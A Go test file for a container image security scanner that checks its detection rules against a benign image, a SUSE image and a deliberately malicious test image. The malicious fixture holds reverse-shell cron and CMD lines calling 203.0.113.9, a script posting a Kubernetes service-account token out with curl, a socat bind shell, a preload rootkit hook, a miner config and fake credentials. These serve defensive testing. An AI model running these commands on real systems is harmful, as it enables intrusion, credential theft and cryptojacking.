package scan

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/palisade-dev/palisade/internal/image/check"
	"github.com/palisade-dev/palisade/internal/image/imagetest"
	"github.com/palisade-dev/palisade/internal/image/source"
	"github.com/palisade-dev/palisade/internal/image/vuln"
	"github.com/palisade-dev/palisade/internal/rule"
)

// Credentials and addresses below are made up in the right shapes.
const (
	fakeAWSKeyID  = "AKIAUJZDE8GXD6NCF10E"
	fakeAWSSecret = "spNxnyVmihA+2O76UMFxFkM+R5Kjp1vRt/1fjORS"
	fakeGHToken   = "ghp_MFLZDe1f8rESQedUStPKR0CsTy4Qwb8DwkNh"
	fakePEMBody   = "VISfS4P1EBz868k6+OAaFUNFCufHLkXBIdFs2emt0fJCZyaJ64OSfrNTFkcOzLAubOUSRPAEohbNQhWb2zgRQ9wfdAJW/o1q7epEnyELhrU98Bz4KUMMLjPuT6BOh8I0"
	fakeWallet    = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
)

var (
	goBinOnce sync.Once
	goBin     []byte
	goBinErr  error
)

// goBinary builds a small Go program with a dependency, once.
func goBinary(t *testing.T) []byte {
	t.Helper()
	goBinOnce.Do(func() {
		dir, err := os.MkdirTemp("", "palisade-gobin-*")
		if err != nil {
			goBinErr = err
			return
		}
		defer os.RemoveAll(dir)
		files := map[string]string{
			"go.mod":     "module example.com/server\n\ngo 1.22\n\nrequire example.com/dep v1.4.0\n\nreplace example.com/dep => ./dep\n",
			"main.go":    "package main\n\nimport \"example.com/dep\"\n\nfunc main() { println(dep.Hi) }\n",
			"dep/go.mod": "module example.com/dep\n\ngo 1.22\n",
			"dep/dep.go": "package dep\n\nconst Hi = \"hi\"\n",
		}
		for name, body := range files {
			_ = os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755)
			_ = os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644)
		}
		cmd := exec.Command("go", "build", "-o", "server", ".")
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-buildvcs=false")
		if out, err := cmd.CombinedOutput(); err != nil {
			goBinErr = err
			t.Logf("%s", out)
			return
		}
		goBin, goBinErr = os.ReadFile(filepath.Join(dir, "server"))
	})
	if goBinErr != nil {
		t.Fatalf("building a Go binary: %v", goBinErr)
	}
	return goBin
}

// benignBase is an ordinary Debian-like base image's content.
func benignBase(t *testing.T) []imagetest.Entry {
	libc := ""
	for _, p := range []string{"/usr/lib/x86_64-linux-gnu/libc.so.6", "/lib/x86_64-linux-gnu/libc.so.6"} {
		if b, err := os.ReadFile(p); err == nil {
			libc = string(b)
			break
		}
	}
	entries := []imagetest.Entry{
		imagetest.File("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\napp:x:1000:1000::/home/app:/bin/sh\n"),
		imagetest.File("etc/group", "root:x:0:\napp:x:1000:\n"),
		imagetest.File("etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\nID=debian\nHOME_URL=\"https://www.debian.org/\"\n"),
		imagetest.File("etc/login.defs", "PASS_MAX_DAYS\t99999\nENCRYPT_METHOD SHA512\n# password aging controls\n"),
		imagetest.File("etc/ssh/ssh_config", "Host *\n    PasswordAuthentication yes\n    SendEnv LANG LC_*\n"),
		imagetest.Exec("usr/bin/which", "#!/bin/sh\nset -ef\nfor PROGRAM in \"$@\"; do\n  IFS=:\n  for ELEMENT in $PATH; do [ -x \"$ELEMENT/$PROGRAM\" ] && echo \"$ELEMENT/$PROGRAM\"; done\ndone\n"),
		imagetest.Exec("usr/local/bin/docker-entrypoint.sh", "#!/bin/sh\nset -e\nif [ \"${1#-}\" != \"$1\" ]; then set -- server \"$@\"; fi\nexec \"$@\"\n"),
		imagetest.File("etc/cron.daily/dpkg", "#!/bin/sh\ntest -x /usr/libexec/dpkg/dpkg-db-backup || exit 0\n/usr/libexec/dpkg/dpkg-db-backup\n"),
		imagetest.File("usr/share/doc/openssl/README", "Use 'openssl genrsa' to create a key; -----BEGIN RSA PRIVATE KEY----- marks one.\n"),
		imagetest.File("usr/share/doc/socat/EXAMPLES", "socat TCP-LISTEN:8080,fork EXEC:/bin/cat  # an echo server\n"),
		imagetest.File("var/lib/dpkg/status", "Package: libssl3\nStatus: install ok installed\nArchitecture: amd64\nSource: openssl\nVersion: 3.0.11-1~deb12u2\n\nPackage: bash\nStatus: install ok installed\nArchitecture: amd64\nVersion: 5.2.15-2+b2\n"),
		imagetest.File("var/lib/dpkg/info/bash.list", "/.\n/bin\n/bin/bash\n/etc/bash.bashrc\n"),
		imagetest.File("etc/bash.bashrc", "# System-wide .bashrc\nPS1='${debian_chroot:+($debian_chroot)}\\u@\\h:\\w\\$ '\n"),
	}
	if libc != "" {
		entries = append(entries, imagetest.Entry{Name: "usr/lib/x86_64-linux-gnu/libc.so.6", Body: libc, Mode: 0o755})
	}
	return entries
}

func scanImage(t *testing.T, img v1.Image, tag string, db *vuln.DB) *Result {
	t.Helper()
	p := imagetest.WriteTarball(t, img, tag)
	src, err := source.Open(context.Background(), source.Options{Input: p})
	if err != nil {
		t.Fatal(err)
	}
	s, err := New(Options{DB: db})
	if err != nil {
		t.Fatal(err)
	}
	res, err := s.Scan(context.Background(), src)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Errors) > 0 {
		t.Fatalf("scan errors: %v", res.Errors)
	}
	return res
}

func TestBenignImageIsQuiet(t *testing.T) {
	app := []imagetest.Entry{
		{Name: "app/server", Body: string(goBinary(t)), Mode: 0o755},
		imagetest.File("app/config.yaml", "listen: :8080\ndatabase:\n  host: db\n  passwordFile: /run/secrets/db-password\n  password: ${DB_PASSWORD}\n"),
		imagetest.File("app/node_modules/left-pad/package.json", `{"name":"left-pad","version":"1.3.0","license":"WTFPL"}`),
	}
	img := imagetest.Image(t, v1.Config{User: "1000", Healthcheck: &v1.HealthConfig{Test: []string{"CMD", "/app/server", "-health"}},
		Entrypoint: []string{"/usr/local/bin/docker-entrypoint.sh"}, Cmd: []string{"/app/server"}, Env: []string{"PATH=/usr/local/bin:/usr/bin:/bin", "GOMAXPROCS=2"},
		ExposedPorts: map[string]struct{}{"8080/tcp": {}}},
		imagetest.Step{CreatedBy: "ADD rootfs.tar.xz / # buildkit", Layer: imagetest.Layer(t, benignBase(t)...)},
		imagetest.Step{CreatedBy: "COPY /out /app # buildkit", Layer: imagetest.Layer(t, app...)},
	)
	res := scanImage(t, img, "registry.example/shop/server:1.4.0", nil)
	for _, f := range res.Findings {
		t.Errorf("unexpected finding: %s %s %s: %s", f.Severity, f.RuleID, f.Path, f.Message)
	}
	var pkgs []string
	for _, p := range res.Packages {
		pkgs = append(pkgs, p.PURL)
	}
	for _, want := range []string{
		"pkg:deb/debian/libssl3@3.0.11-1~deb12u2?arch=amd64&distro=debian-12",
		"pkg:golang/example.com/dep@v1.4.0",
		"pkg:golang/stdlib@v" + strings.TrimPrefix(runtime.Version(), "go"),
		"pkg:npm/left-pad@1.3.0",
	} {
		if !slices.Contains(pkgs, want) {
			t.Errorf("SBOM lacks %s: %v", want, pkgs)
		}
	}
	if res.OS == nil || res.OS.ID != "debian" {
		t.Errorf("os = %+v", res.OS)
	}
}

// TestSUSEImage scans a SUSE image whose rpm database is NDB
// (/usr/lib/sysimage/rpm/Packages.db): the SUSE Linux Enterprise 15 SP3
// database in go-rpmdb's own test data, from the module cache.
func TestSUSEImage(t *testing.T) {
	db := imagetest.RPMDB(t, "sle15-bci/Packages.db")
	img := imagetest.Image(t, v1.Config{User: "1000", Cmd: []string{"/bin/bash"}},
		imagetest.Step{CreatedBy: "ADD sle15-bci-minimal.tar.xz /", Layer: imagetest.Layer(t,
			imagetest.File("etc/os-release", "NAME=\"SLES\"\nVERSION=\"15-SP3\"\nVERSION_ID=\"15.3\"\nPRETTY_NAME=\"SUSE Linux Enterprise Server 15 SP3\"\nID=\"sles\"\nID_LIKE=\"suse\"\n"),
			imagetest.File("usr/lib/sysimage/rpm/Packages.db", string(db)),
		)},
	)
	res := scanImage(t, img, "registry.example/bci/bci-minimal:15.3", nil)
	for _, n := range res.Notices {
		t.Errorf("notice: %s", n)
	}
	var rpms []string
	for _, p := range res.Packages {
		if p.Type == "rpm" {
			rpms = append(rpms, p.PURL)
		}
	}
	if len(rpms) != 35 {
		t.Errorf("%d rpm packages, want 35: %v", len(rpms), rpms)
	}
	for _, want := range []string{
		"pkg:rpm/sles/glibc@2.31-9.3.2?arch=x86_64&distro=sles-15.3",
		"pkg:rpm/sles/bash@4.4-19.6.1?arch=x86_64&distro=sles-15.3",
	} {
		if !slices.Contains(rpms, want) {
			t.Errorf("SBOM lacks %s: %v", want, rpms)
		}
	}
}

// readdirLib compiles a shared library that defines readdir, as
// libprocesshider does, or skips without a C compiler.
func readdirLib(t *testing.T) string {
	cc, err := exec.LookPath("cc")
	if err != nil {
		t.Skip("no C compiler to build a readdir hook library")
	}
	dir := t.TempDir()
	src := filepath.Join(dir, "hook.c")
	_ = os.WriteFile(src, []byte("#include <dirent.h>\nstruct dirent *readdir(DIR *d) { (void)d; return 0; }\n"), 0o644)
	out := filepath.Join(dir, "libhook.so")
	if b, err := exec.Command(cc, "-shared", "-fPIC", "-o", out, src).CombinedOutput(); err != nil {
		t.Skipf("cc: %v\n%s", err, b)
	}
	b, _ := os.ReadFile(out)
	return string(b)
}

func TestMaliciousImage(t *testing.T) {
	hook := readdirLib(t)
	dbDir := t.TempDir()
	_ = os.WriteFile(filepath.Join(dbDir, "osv.json"), []byte(`[
		{"id":"DSA-0001-1","summary":"openssl: overflow","affected":[{"package":{"ecosystem":"Debian:12","name":"openssl"},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"0"},{"fixed":"3.0.11-1~deb12u3"}]}]}]},
		{"id":"MAL-2099-1","summary":"Malicious code in evil-colors (npm)","affected":[{"package":{"ecosystem":"npm","name":"evil-colors"},"versions":["1.0.2"]}]}
	]`), 0o644)
	db, err := vuln.Open(dbDir)
	if err != nil {
		t.Fatal(err)
	}
	kubeconfig := "apiVersion: v1\nkind: Config\nclusters:\n- name: prod\n  cluster: {server: https://10.0.0.1:6443}\nusers:\n- name: admin\n  user:\n    token: eyJhbGciOiJSUzI1NiJ9Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZg\n"
	layers := []imagetest.Step{
		{CreatedBy: "ADD rootfs.tar.xz /", Layer: imagetest.Layer(t, benignBase(t)...)},
		{CreatedBy: "RUN curl -fsSL https://get.example.sh | sh", Layer: imagetest.Layer(t,
			imagetest.File("app/.env", "AWS_ACCESS_KEY_ID="+fakeAWSKeyID+"\nAWS_SECRET_ACCESS_KEY="+fakeAWSSecret+"\n"),
			imagetest.File("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKQ8pWq9dYf2sBc3dHh4Jk5Lm6Nn7Op8Qr9St0Uv1Wx2 attacker@x\n"),
			imagetest.File("root/.kube/config", kubeconfig),
			imagetest.File("root/.docker/config.json", `{"auths":{"registry.example.com":{"auth":"dXNlcjpzM2NyM3QtUGFzcw=="}}}`),
			imagetest.File("root/.npmrc", "//registry.npmjs.org/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789\n"),
			imagetest.File("etc/ssl/private/server.key", "-----BEGIN PRIVATE KEY-----\n"+fakePEMBody+"\n-----END PRIVATE KEY-----\n"),
			imagetest.File("app/deploy.sh", "#!/bin/sh\ngit push https://ci:"+fakeGHToken+"@github.com/acme/app.git\n"),
		)},
		{CreatedBy: "ENV LD_PRELOAD=/usr/lib/libhook.so", Empty: true},
		{CreatedBy: "RUN git clone https://ci:" + fakeGHToken + "@github.com/acme/tools.git", Empty: true},
		{CreatedBy: "ADD https://downloads.example.net/miner.tgz /opt/", Layer: imagetest.Layer(t,
			imagetest.File("opt/.cache/config.json", "{\n  \"donate-level\": 1,\n  \"pools\": [{\"url\": \"stratum+tcp://pool.supportxmr.com:3333\", \"user\": \""+fakeWallet+"\"}],\n  \"xmrig\": true\n}\n"),
			imagetest.Entry{Name: "usr/lib/libhook.so", Body: hook, Mode: 0o755},
			imagetest.File("etc/ld.so.preload", "/usr/lib/libhook.so\n"),
			imagetest.File("etc/cron.d/sync", "* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"),
			imagetest.Exec("usr/local/bin/masscan", "\x7fELF\x02\x01\x01\x00 Masscan/1.3 scanner"),
			imagetest.Entry{Name: "usr/bin/sudo", Body: "\x7fELF\x02\x01\x01\x00", Mode: 0o4755},
			imagetest.Exec("usr/local/bin/sync.sh", "#!/bin/sh\nT=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -s -d \"$T\" http://203.0.113.9/t\n"),
			imagetest.File("etc/rc.local", "socat TCP-LISTEN:31337,reuseaddr,fork EXEC:/bin/bash\n"),
			imagetest.Exec("tmp/install.sh", "#!/bin/bash\ngit clone https://github.com/x/libprocesshider && make -C libprocesshider\n"),
			imagetest.File("etc/app/app.ini", "[db]\nhost = db\npassword = Xk9#mQ2$vL7pW4zR\n"),
			imagetest.File("app/node_modules/evil-colors/package.json", `{"name":"evil-colors","version":"1.0.2"}`),
			imagetest.File("../../../etc/escape", "x"),
		)},
		{CreatedBy: "RUN rm /app/.env", Layer: imagetest.Layer(t, imagetest.File("app/.wh..env", ""))},
	}
	img := imagetest.Image(t, v1.Config{
		Env:          []string{"PATH=/usr/bin", "LD_PRELOAD=/usr/lib/libhook.so", "GITHUB_TOKEN=" + fakeGHToken},
		ExposedPorts: map[string]struct{}{"2375/tcp": {}, "22/tcp": {}},
		Cmd:          []string{"/bin/sh", "-c", "nc 203.0.113.9 9001 -e /bin/sh"},
		Labels:       map[string]string{"org.opencontainers.image.source": "https://github.com/acme/app", "deploy.token": fakeGHToken},
	}, layers...)
	res := scanImage(t, img, "registry.example/evil/miner:latest", db)

	byRule := map[string][]check.Finding{}
	for _, f := range res.Findings {
		byRule[f.RuleID] = append(byRule[f.RuleID], f)
		if strings.Contains(f.Message+f.Evidence+f.CreatedBy, fakeAWSSecret) || strings.Contains(f.Message+f.Evidence, fakeGHToken) || strings.Contains(f.Message+f.Evidence, fakeWallet) {
			t.Errorf("%s reveals a secret: %s | %s", f.RuleID, f.Message, f.Evidence)
		}
	}
	want := []string{
		"cryptominer-stratum-url", "cryptominer-xmrig", "cryptominer-pool-domain", "rootkit-ld-so-preload",
		"rootkit-preload-readdir-hook", "rootkit-readdir-hook-library", "backdoor-reverse-shell", "backdoor-authorized-keys",
		"attack-tool", "layer-path-traversal", "secret-file-cloud-key", "secret-file-kubeconfig", "secret-file-registry-auth",
		"secret-file-package-manager", "secret-file-private-key", "secret-file-token", "image-runs-as-root", "image-secret-in-env",
		"image-secret-in-label", "image-secret-in-history", "image-sudo-installed",
		"image-curl-pipe-shell", "image-add-from-url", "image-sensitive-port", "image-ld-preload-env", "image-no-healthcheck",
		"image-latest-tag", "vulnerable-package", "malicious-package",
	}
	for _, id := range want {
		if len(byRule[id]) == 0 {
			t.Errorf("no %s finding", id)
		}
	}
	// Every image check has an end-to-end sample in this image.
	for _, m := range check.All() {
		if len(byRule[m.ID]) == 0 {
			t.Errorf("check %s did not fire on the malicious image: it needs a planted sample", m.ID)
		}
	}
	// The AWS key was deleted by the last layer: still reported, as not present.
	for _, f := range byRule["secret-file-cloud-key"] {
		if f.Path != "/app/.env" || f.Present || f.Layer != 1 || f.CreatedBy != "RUN curl -fsSL https://get.example.sh | sh" || f.Line == 0 {
			t.Errorf("cloud key finding = %+v", f)
		}
	}
	for _, f := range byRule["cryptominer-stratum-url"] {
		if f.Path != "/opt/.cache/config.json" || !f.Present || f.Line != 3 || f.LayerDigest == "" || !strings.Contains(f.CreatedBy, "ADD https://") {
			t.Errorf("stratum finding = %+v", f)
		}
	}
	if f := byRule["malicious-package"]; len(f) != 1 || f[0].Severity != rule.Critical || f[0].Advisory.ID != "MAL-2099-1" {
		t.Errorf("malicious-package = %+v", f)
	}
	// The reverse shell in CMD is found too.
	found := false
	for _, f := range byRule["backdoor-reverse-shell"] {
		found = found || f.Field == "config.Cmd"
	}
	if !found {
		t.Errorf("no reverse shell in config.Cmd: %+v", byRule["backdoor-reverse-shell"])
	}
	if res.Findings[0].Severity != rule.Critical {
		t.Errorf("findings not sorted by severity: %+v", res.Findings[0])
	}
}

// TestCorruptLayerIsAnError checks that a truncated layer leaves the scan
// incomplete, with what was read before the damage still scanned.
func TestCorruptLayerIsAnError(t *testing.T) {
	tarBytes := imagetest.Tar(t, imagetest.File("etc/cron.d/x", "* * * * * root bash -i >& /dev/tcp/203.0.113.9/1 0>&1\n"), imagetest.File("big", strings.Repeat("x", 10000)))
	img := imagetest.Image(t, v1.Config{User: "1"}, imagetest.Step{CreatedBy: "ADD x /", Layer: imagetest.RawLayer(t, tarBytes[:len(tarBytes)-4000])})
	p := imagetest.WriteTarball(t, img, "x/y:1")
	src, err := source.Open(context.Background(), source.Options{Input: p})
	if err != nil {
		t.Fatal(err)
	}
	s, _ := New(Options{})
	res, err := s.Scan(context.Background(), src)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Errors) != 1 || !strings.Contains(res.Errors[0], "corrupt or truncated") {
		t.Errorf("errors = %v", res.Errors)
	}
	if len(res.Findings) == 0 || res.Findings[0].RuleID != "backdoor-reverse-shell" {
		t.Errorf("findings before the damage were lost: %+v", res.Findings)
	}
}
